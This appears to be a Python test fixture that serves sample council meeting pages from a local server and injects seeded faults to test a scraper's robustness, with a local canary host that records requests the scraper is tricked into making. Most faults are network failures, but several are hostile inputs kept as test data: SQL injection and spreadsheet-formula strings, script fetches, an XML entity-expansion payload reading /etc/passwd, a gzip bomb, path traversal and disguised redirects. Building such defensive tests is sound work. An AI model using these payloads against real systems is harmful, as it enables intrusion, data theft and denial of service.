"""The sample councils on a bad day: a share of the answers is not what was asked for.

What goes wrong is told by name, drawn from a seed, and can be stopped. A canary listens beside the
site: it is another host, and whoever asks it for anything was led astray.
"""

import random
import re
import socket
import struct
import time
import zlib
from collections import Counter
from collections.abc import Callable, Generator
from contextlib import contextmanager
from dataclasses import dataclass, field
from functools import cache
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Lock, Thread

from scrapers.samples.loading import load_stories
from scrapers.samples.server import Answer, answer

MEGABYTE = 1_000_000
WORDS = (
    "' OR 1=1; DROP TABLE raw.pages; -- =HYPERLINK(\"http://{0}/\") <script>fetch('//{0}')</script>"
)
FIREWALL = b"<html><title>Just a moment...</title><p class='cf-browser-verification'></p></html>"
HOSTILE_XML = """<?xml version="1.0"?><!DOCTYPE meeting [
<!ENTITY a "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa">
{layers}<!ENTITY outside SYSTEM "http://{canary}/entity"><!ENTITY file SYSTEM "file:///etc/passwd">
]><meeting><meetingid>&k;</meetingid><meetinglocation>&outside;&file;</meetinglocation></meeting>"""


@dataclass
class FaultySite:
    """What goes wrong, how often, and what came of it."""

    share: float = 0.0
    seed: int = 1
    faults: list[str] = field(default_factory=lambda: list(FAULTS))
    address: str = ""
    canary: str = ""
    asked: list[str] = field(default_factory=list)
    led_astray: list[str] = field(default_factory=list)  # what the canary was asked for
    given: Counter[str] = field(default_factory=Counter)
    bomb_bytes: int = 100 * MEGABYTE
    long_bytes: int = 200 * MEGABYTE
    _lock: Lock = field(default_factory=Lock)
    _times: Counter[str] = field(default_factory=Counter)

    def fault_of(self, path: str) -> str | None:
        """The fault of one answer: the same in every run, whichever thread asks first."""
        with self._lock:
            self.asked.append(path)
            self._times[path] += 1
            chance = random.Random(f"{self.seed} {path} {self._times[path]}")
            name = chance.choice(self.faults) if chance.random() < self.share else None
            if name:
                self.given[name] += 1
            return name


@contextmanager
def serving_badly(site: FaultySite) -> Generator[FaultySite]:
    """Serve the sample councils with the site's faults, and the canary beside them."""

    class Canary(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            site.led_astray.append(self.path)
            self.send_error(418)

        def log_message(self, format: str, *args: object) -> None:
            """Nobody reads it."""

    class Handler(_Handler):
        stories = load_stories()

    Handler.site = site
    with _listening(Canary) as canary, _listening(Handler) as address:
        site.canary = canary.replace("127.0.0.1", "localhost").removeprefix("http://")
        site.address = address
        yield site


@contextmanager
def _listening(handler: type[BaseHTTPRequestHandler]) -> Generator[str]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    server.daemon_threads = True
    Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_port}"
    finally:
        server.shutdown()
        server.server_close()


class _Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    disable_nagle_algorithm = True
    site: FaultySite
    stories: dict

    def do_GET(self) -> None:
        fault = self.site.fault_of(self.path)
        if "/round-and-round" in self.path:
            return self.send(302, b"", Location=self.path)
        said = answer(self.stories, self.path, f"http://{self.headers['Host']}")
        if fault is None:
            more = {"Location": said.location} if said.location else {}
            return self.send(said.status, said.body, said.content_type, **more)
        try:
            FAULTS[fault](self, said)
        except OSError:
            self.close_connection = True
        return None

    def send(
        self, status: int, body: bytes, content_type: str = "text/html", **headers: str
    ) -> None:
        self.head(status, content_type, len(body), **headers)
        self.wfile.write(body)

    def head(self, status: int, content_type: str, length: int, **headers: str) -> None:
        self.send_response(status)
        self.send_header("Content-Type", content_type)
        self.send_header("Content-Length", str(length))
        for name, value in headers.items():
            self.send_header(name.replace("_", "-"), value)
        self.end_headers()

    def log_message(self, format: str, *args: object) -> None:
        """Nobody reads it."""


def _busy(handler: _Handler, said: Answer) -> None:
    handler.send(429, b"slow down", Retry_After="0")


def _down(handler: _Handler, said: Answer) -> None:
    handler.send(503, b"<h1>Service unavailable</h1>")


def _reset(handler: _Handler, said: Answer) -> None:
    handler.connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    handler.connection.close()
    handler.close_connection = True


def _cut(handler: _Handler, said: Answer) -> None:
    handler.head(said.status, said.content_type, len(said.body) + 1)
    handler.wfile.write(said.body[: len(said.body) // 2])
    handler.close_connection = True


def _cut_by_a_proxy(handler: _Handler, said: Answer) -> None:
    handler.send(200, said.body[: len(said.body) // 2], said.content_type)


def _drip(handler: _Handler, said: Answer) -> None:
    handler.head(200, said.content_type, 10_000)
    for _ in range(60):
        handler.wfile.write(b" ")
        time.sleep(0.05)


def _silence(handler: _Handler, said: Answer) -> None:
    time.sleep(3)
    handler.close_connection = True


def _round_and_round(handler: _Handler, said: Answer) -> None:
    handler.send(302, b"", Location="/kelverton/round-and-round")


def _elsewhere(handler: _Handler, said: Answer) -> None:
    handler.send(302, b"", Location=f"http://{handler.site.canary}/redirect")


def _elsewhere_in_disguise(handler: _Handler, said: Answer) -> None:
    here = handler.site.address.removeprefix("http://")
    handler.send(302, b"", Location=f"http://{handler.site.canary}\\@{here}/redirect")


def _firewall(handler: _Handler, said: Answer) -> None:
    handler.send(200, FIREWALL)


def _script(handler: _Handler, said: Answer) -> None:
    stub = f"<script>window.location.replace('http://{handler.site.canary}/script')</script>"
    handler.send(200, stub.encode())


def _charset(handler: _Handler, said: Answer) -> None:
    kind = said.content_type.partition(";")[0]
    handler.send(said.status, said.body, f"{kind}; charset=koi8-r")


def _no_charset_at_all(handler: _Handler, said: Answer) -> None:
    kind = said.content_type.partition(";")[0]
    handler.send(said.status, said.body, f"{kind}; charset=utf-16")


def _mark(handler: _Handler, said: Answer) -> None:
    handler.send(said.status, b"\xef\xbb\xbf\r\n\r\n" + said.body, said.content_type)


def _binary(handler: _Handler, said: Answer) -> None:
    handler.send(200, random.Random(1).randbytes(50_000), said.content_type)


def _nothing(handler: _Handler, said: Answer) -> None:
    handler.send(200, b"", said.content_type)


def _bomb(handler: _Handler, said: Answer) -> None:
    body = bomb(handler.site.bomb_bytes)
    handler.send(200, body, said.content_type, Content_Encoding="gzip")


def _long(handler: _Handler, said: Answer) -> None:
    handler.head(200, said.content_type, handler.site.long_bytes)
    chunk = b'<div id="modgov"><p>' + b"long " * 200_000
    for _ in range(handler.site.long_bytes // len(chunk)):
        handler.wfile.write(chunk)
    handler.close_connection = True


def _entities(handler: _Handler, said: Answer) -> None:
    letters = "abcdefghijk"
    layers = "".join(
        f'<!ENTITY {letters[n + 1]} "{f"&{letters[n]};" * 20}">' for n in range(len(letters) - 1)
    )
    body = HOSTILE_XML.format(layers=layers, canary=handler.site.canary)
    handler.send(200, body.encode(), "text/xml")


def _nested(handler: _Handler, said: Answer) -> None:
    inside = b"<div>" * 20_000 + b"deep" + b"</div>" * 20_000
    handler.send(200, said.body.replace(b"</h1>", b"</h1>" + inside, 1), said.content_type)


def _agenda_of_ten_thousand(handler: _Handler, said: Answer) -> None:
    rows = "".join(
        f'<tr><td><p class="mgAiTitleTxt"><a name="AI{n}"></a>{n}.</p></td>'
        f'<td><p class="mgAiTitleTxt">Item {n}</p></td></tr>'
        for n in range(8_000_000, 8_010_000)
    )
    page = said.body.replace(b"</table>", rows.encode() + b"</table>", 1)
    handler.send(200, page, said.content_type)


def _twice(handler: _Handler, said: Answer) -> None:
    row = re.search(rb"<tr[ >](?:(?!<tr[ >]).)*AI\d+.*?</tr>", said.body, re.DOTALL)
    body = said.body.replace(row[0], row[0] * 3, 1) if row else said.body
    handler.send(said.status, body, said.content_type)


def _control_characters(handler: _Handler, said: Answer) -> None:
    body = said.body.replace(b"</p>", b"\x00\x07\x1b[2J\x0b</p>")
    handler.send(said.status, body, said.content_type)


def _poison(handler: _Handler, said: Answer) -> None:
    """Words that would be code elsewhere, and a file that would lie elsewhere."""
    words = WORDS.format(handler.site.canary).replace("<", "&lt;").encode()
    body = said.body.replace(b'mgAiTitleTxt" >', b'mgAiTitleTxt" >' + words + b" ")
    body = re.sub(rb"documents/s(\d+)/", rb"documents/s\1/../../../../etc/", body)
    handler.send(said.status, body.replace(b"</p>", words + b"</p>"), said.content_type)


@cache
def bomb(size: int) -> bytes:
    """So many bytes of nothing, packed."""
    packer = zlib.compressobj(wbits=31)
    parts = [packer.compress(b"\0" * MEGABYTE) for _ in range(size // MEGABYTE)]
    return b"".join([*parts, packer.flush()])


FAULTS: dict[str, Callable[[_Handler, Answer], None]] = {
    function.__name__.strip("_").replace("_", " "): function
    for function in (
        _busy, _down, _reset, _cut, _cut_by_a_proxy, _drip, _silence, _round_and_round, _elsewhere,
        _elsewhere_in_disguise, _firewall, _script, _charset, _no_charset_at_all, _mark, _binary,
        _nothing, _bomb, _long, _entities, _nested, _agenda_of_ten_thousand, _twice,
        _control_characters, _poison,
    )
}  # fmt: skip
